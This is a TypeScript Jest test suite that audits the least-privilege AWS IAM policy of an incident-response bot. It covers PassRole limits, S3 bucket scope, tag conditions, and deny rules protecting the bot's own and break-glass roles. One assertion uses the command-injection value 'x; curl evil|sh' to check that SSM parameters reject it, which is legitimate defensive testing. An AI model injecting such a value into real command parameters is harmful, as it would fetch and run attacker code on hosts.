import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { actions, actionsCalledByCode, isRead, resources, shippedPolicy, shippedReasons, unjustifiedWildcardStatements, unjustifiedWritesOnStar, writesOnStar } from './support/iam-policy';

/** Permissions AWS checks on behalf of a call, without a command of their own. */
const IMPLIED: Record<string, string> = { 'iam:PassRole': 'ec2:AssociateIamInstanceProfile passes the isolation role' };

const policy = shippedPolicy();
const reasons = shippedReasons();
const allows = policy.Statement.filter((s) => s.Effect === 'Allow');
/** Athena and Glue/S3 reads the hunts need; the service calls Glue and S3 on the bot's behalf. */
const ON_BEHALF = /^(glue|s3):/;

describe('the least-privilege policy shipped in iam/ir-bot-policy.json', () => {
  const called = actionsCalledByCode();

  it('allows every AWS action the code calls', () => {
    const allowed = new Set(allows.flatMap((s) => actions(s)));
    const missing = [...called.keys()].filter((a) => !allowed.has(a)).map((a) => `${a} (called in ${called.get(a)})`);
    expect(missing).toEqual([]);
  });

  it('allows nothing the code does not call', () => {
    const extra = allows.flatMap((s) => actions(s)).filter((a) => !ON_BEHALF.test(a) && !called.has(a) && !(a in IMPLIED) && a !== 'sts:AssumeRole' && a !== 'sts:SetSourceIdentity');
    expect(extra).toEqual([]);
  });

  it('keeps the ReadOnly statement read-only', () => {
    expect(actions(policy.Statement.find((s) => s.Sid === 'ReadOnly')!).filter((a) => !isRead(a))).toEqual([]);
  });

  it('grants no write on "*" without a reason recorded beside it in iam/ir-bot-policy.reasons.json', () => {
    const onStar = writesOnStar(policy);
    expect(unjustifiedWritesOnStar(policy, reasons)).toEqual([]);
    // And no stale reason for a write that was narrowed since.
    expect(Object.keys(reasons).filter((a) => a !== '_' && !a.startsWith('sid:') && !onStar.includes(a))).toEqual([]);
  });

  it('grants no unconditioned IAM or EC2 write on a wildcard resource without a reason recorded under sid:<Sid>', () => {
    expect(unjustifiedWildcardStatements(policy, reasons)).toEqual([]);
    const sids = new Set(policy.Statement.map((s) => `sid:${s.Sid}`));
    expect(Object.keys(reasons).filter((k) => k.startsWith('sid:') && !sids.has(k))).toEqual([]);
  });

  it('passes only the isolation role, only to EC2, and attaches only the isolation profile', () => {
    const pass = allows.filter((s) => actions(s).includes('iam:PassRole'));
    expect(pass.flatMap(resources)).toEqual(['arn:aws:iam::*:role/ir-isolation']);
    for (const s of pass) expect(s.Condition?.StringEquals?.['iam:PassedToService']).toBe('ec2.amazonaws.com');
    const assoc = allows.filter((s) => actions(s).includes('ec2:AssociateIamInstanceProfile'));
    for (const s of assoc) expect(s.Condition?.ArnLike?.['ec2:InstanceProfile']).toBe('arn:aws:iam::*:instance-profile/ir-isolation');
  });

  it('touches S3 only in the configured Athena results, log, evidence and tools buckets', () => {
    const s3 = allows.filter((s) => actions(s).some((a) => a.startsWith('s3:'))).flatMap(resources);
    expect(s3.filter((r) => !/^arn:aws:s3:::example-(athena-results|cloudtrail-logs|vpc-flow-logs|ir-evidence|ir-tools)(\/.*)?$/.test(r))).toEqual([]);
    const writes = allows.filter((s) => actions(s).some((a) => a.startsWith('s3:') && !isRead(a))).flatMap(resources);
    expect(writes.every((r) => /^arn:aws:s3:::example-(athena-results|ir-evidence)/.test(r))).toBe(true);
  });

  it('cannot write the tools bucket whose binary every capture runs as root', () => {
    const onTools = allows.filter((s) => resources(s).some((r) => r.startsWith('arn:aws:s3:::example-ir-tools')));
    expect(onTools.flatMap(actions)).toEqual(['s3:GetObject']);
  });

  it('runs commands on instances only through our own SSM document, never AWS-RunShellScript', () => {
    const send = allows.filter((s) => actions(s).some((a) => a === 'ssm:SendCommand' || a === 'ssm:*' || a === '*'));
    expect(send.flatMap(resources).filter((r) => r.includes(':document/'))).toEqual(['arn:aws:ssm:*:*:document/ir-bot-memory-capture']);
    expect(send.flatMap(resources).filter((r) => !r.includes(':document/'))).toEqual(['arn:aws:ec2:*:*:instance/*']);
    const doc = JSON.parse(readFileSync(join(__dirname, '../deploy/ssm/memory-capture.json'), 'utf8'));
    // A parameter that could carry a command would make the document a shell again.
    for (const [name, p] of Object.entries<{ allowedPattern?: string; allowedValues?: string[] }>(doc.parameters)) {
      expect([name, !!(p.allowedPattern || p.allowedValues)]).toEqual([name, true]);
      if (p.allowedPattern) expect([name, new RegExp(p.allowedPattern).test('x; curl evil|sh')]).toEqual([name, false]);
    }
  });

  it('writes IAM policies and keys only on users and roles, and can never change its own or break-glass identities', () => {
    const iamWrites = allows.filter((s) => actions(s).some((a) => a.startsWith('iam:') && !isRead(a) && a !== 'iam:PassRole'));
    for (const s of iamWrites) expect(resources(s).every((r) => /^arn:aws:iam::\*:(role|user)\/\*$/.test(r))).toBe(true);
    const deny = policy.Statement.find((s) => s.Effect === 'Deny')!;
    expect(resources(deny)).toEqual(expect.arrayContaining(['arn:aws:iam::*:role/ir-bot', 'arn:aws:iam::*:role/ir-responder']));
    for (const a of ['iam:PutRolePolicy', 'iam:DeleteRolePolicy', 'iam:UpdateAssumeRolePolicy', 'iam:AttachRolePolicy']) expect(actions(deny)).toContain(a);
  });

  it('writes no inline policy on users, and attaches or detaches only the managed deny-all it ships', () => {
    expect(allows.filter((s) => actions(s).includes('iam:PutUserPolicy') || actions(s).includes('iam:DeleteUserPolicy'))).toEqual([]);
    const attach = allows.filter((s) => actions(s).some((a) => /^iam:(Attach|Detach)(Role|User)Policy$/.test(a)));
    expect(attach.length).toBeGreaterThan(0);
    for (const s of attach) expect(s.Condition).toEqual({ ArnLike: { 'iam:PolicyARN': 'arn:aws:iam::*:policy/ir-bot-deny-all' } });
  });

  it('conditions EC2 writes on ir-bot tags where AWS supports it', () => {
    // Statements that only name the VPC or the source volumes and instances of a create need no condition.
    const ec2On = (action: string) => allows.filter((s) => actions(s).includes(action) && !resources(s).every((r) => /:(vpc|volume|instance)\/\*$/.test(r)));
    // Revoking rules on the customer's groups is granted apart, with its reason (sid:EradicateRulesOnCustomerGroups).
    for (const a of ['ec2:AuthorizeSecurityGroupIngress', 'ec2:AuthorizeSecurityGroupEgress', 'ec2:CreateSecurityGroup', 'ec2:ModifySnapshotAttribute', 'ec2:CreateSnapshots', 'ec2:CopySnapshot', 'ec2:CreateTags']) {
      const ss = ec2On(a);
      expect(ss.length).toBeGreaterThan(0);
      for (const s of ss) expect(s.Condition).toBeDefined();
    }
  });
});
